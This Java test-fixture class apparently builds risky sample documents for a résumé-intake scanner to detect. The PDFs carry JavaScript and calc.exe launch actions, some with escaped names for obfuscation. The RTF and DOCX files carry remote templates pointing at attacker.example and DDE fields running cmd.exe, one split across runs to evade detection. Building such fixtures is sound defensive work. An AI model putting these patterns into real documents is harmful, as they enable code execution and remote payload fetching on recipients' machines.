package com.example.ats.intake;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Documents that are not malware but act when opened, as the tools that make them (or attackers) write them. */
public final class RiskyDocuments {

    private static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static final String RELS = "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"";
    private static final String TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private RiskyDocuments() {}

    // ------------------------------------------------------------------ PDF

    /** A PDF made by PDFBox, saved with compressed object streams (the script sits in one). */
    public static byte[] pdfWithJavaScript() {
        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")));
    }

    public static byte[] pdfWithLaunchAction() {
        return pdf(document -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.getCOSObject().setString("F", "calc.exe");
            document.getDocumentCatalog().setOpenAction(launch);
        });
    }

    public static byte[] cleanPdfByPdfBox() {
        return pdf(document -> {});
    }

    /** Hand-written PDFs, each hiding one thing the way obfuscated samples do. */
    public static List<Map.Entry<String, byte[]>> handWrittenPdfs() {
        List<Map.Entry<String, byte[]>> pdfs = new ArrayList<>();
        add(pdfs, "JavaScript", handWritten("3 0 obj << /J#53 (app.alert\\(1\\)) >> endobj\n"));
        add(pdfs, "a launch action", handWritten("3 0 obj << /S /L#61unch /F (calc.exe) >> endobj\n"));
        add(
                pdfs,
                "a launch action",
                handWritten("3 0 obj << /S 4 0 R /F (calc.exe) >> endobj\n4 0 obj /Launch endobj\n"));
        add(
                pdfs,
                "an attached file",
                handWritten("3 0 obj << /Type /Filespec /F (a.docm) /EF << /F 4 0 R >> >> endobj\n"
                        + "4 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nhi\nendstream endobj\n"));
        add(
                pdfs,
                "a form with scripts (XFA)",
                handWritten("3 0 obj << /Fields [] /XFA 4 0 R >> endobj\n"
                        + "4 0 obj << /Length 8 >> stream\n<script>\nendstream endobj\n"));
        add(
                pdfs,
                "an action that opens another file",
                handWritten("3 0 obj << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf)" + " /D [0 /Fit] >> endobj\n"));
        return pdfs;
    }

    private static void add(List<Map.Entry<String, byte[]>> pdfs, String found, byte[] pdf) {
        pdfs.add(Map.entry(found, pdf));
    }

    /** The catalog opens object 3; the rest is as given. */
    private static byte[] handWritten(String objects) {
        return ("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
                        + "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
                        + objects
                        + "trailer << /Root 1 0 R >>\n%%EOF\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    // ------------------------------------------------------------------ RTF

    public static byte[] rtfWithObject() {
        return "{\\rtf1\\ansi {\\object\\objemb {\\*\\objdata 0105000002000000}} CV}"
                .getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] rtfWithRemoteTemplate() {
        return "{\\rtf1\\ansi{\\*\\template http://attacker.example/t.dot} CV}".getBytes(StandardCharsets.US_ASCII);
    }

    public static byte[] rtfWithDdeField() {
        return "{\\rtf1\\ansi {\\field{\\*\\fldinst {\\rtlch DDE}{AUTO c:\\\\windows\\\\system32\\\\cmd.exe}}{\\fldrslt x}} CV}"
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** A hyperlink field whose address says "import": no field that fetches anything. */
    public static byte[] rtfWithHyperlinkField() {
        return "{\\rtf1\\ansi {\\field{\\*\\fldinst HYPERLINK \"https://example.org/import\"}{\\fldrslt site}} CV}"
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** Mentions "\object" as text (an escaped backslash): nothing embedded. */
    public static byte[] rtfMentioningObjectAsText() {
        return "{\\rtf1\\ansi Use \\\\object in C:\\\\objects\\\\ here.}".getBytes(StandardCharsets.US_ASCII);
    }

    // ------------------------------------------------------------------ Word and OpenDocument

    public static byte[] docxWithRemoteTemplate() {
        return docx(
                SampleFiles.DOCUMENT_XML,
                "<Relationship Id=\"rId1\" Type=\"" + TYPE
                        + "attachedTemplate\" Target=\"https://attacker.example/t.dotm\""
                        + " TargetMode=\"External\"/>");
    }

    public static byte[] docxWithHyperlink() {
        return docx(
                SampleFiles.DOCUMENT_XML,
                "<Relationship Id=\"rId1\" Type=\"" + TYPE
                        + "hyperlink\" Target=\"https://www.linkedin.com/in/someone\"" + " TargetMode=\"External\"/>");
    }

    public static byte[] docxWithEmbeddedObject() {
        return docx(
                SampleFiles.DOCUMENT_XML,
                "<Relationship Id=\"rId1\" Type=\"" + TYPE + "oleObject\" Target=\"media/image9.bin\"/>");
    }

    /** A DDEAUTO field whose instruction is split over two runs, as obfuscated samples do. */
    public static byte[] docxWithSplitDdeField() {
        return docx(
                "<w:document " + W + "><w:body><w:p>"
                        + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>"
                        + "<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
                        + "</w:p></w:body></w:document>",
                "");
    }

    /** A hyperlink field (as Word writes a link in a CV): passes. */
    public static byte[] docxWithHyperlinkField() {
        return docx(
                "<w:document " + W + "><w:body><w:p>"
                        + "<w:fldSimple w:instr=\" HYPERLINK &quot;https://example.org/import&quot; \"><w:r><w:t>site</w:t>"
                        + "</w:r></w:fldSimple></w:p></w:body></w:document>",
                "");
    }

    public static byte[] odtWithEmbeddedObject() {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                ZipOutputStream zip = new ZipOutputStream(bytes)) {
            put(zip, "mimetype", "application/vnd.oasis.opendocument.text");
            put(
                    zip,
                    "content.xml",
                    "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:"
                            + "office:1.0\" xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\"><draw:object-ole/>"
                            + "</office:document-content>");
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static byte[] docWithObjectPool() {
        try (POIFSFileSystem ole = new POIFSFileSystem();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            ole.createDocument(new java.io.ByteArrayInputStream(new byte[4096]), "WordDocument");
            ole.getRoot().createDirectory("ObjectPool");
            ole.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] docx(String documentXml, String relationships) {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                ZipOutputStream zip = new ZipOutputStream(bytes)) {
            put(
                    zip,
                    "[Content_Types].xml",
                    "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/"
                            + "package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/"
                            + "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
            put(zip, "_rels/.rels", "<Relationships " + RELS + "/>");
            put(zip, "word/document.xml", documentXml);
            put(
                    zip,
                    "word/_rels/document.xml.rels",
                    "<Relationships " + RELS + ">" + relationships + "</Relationships>");
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void put(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    private interface Change {
        void apply(PDDocument document) throws IOException;
    }

    private static byte[] pdf(Change change) {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            change.apply(document);
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
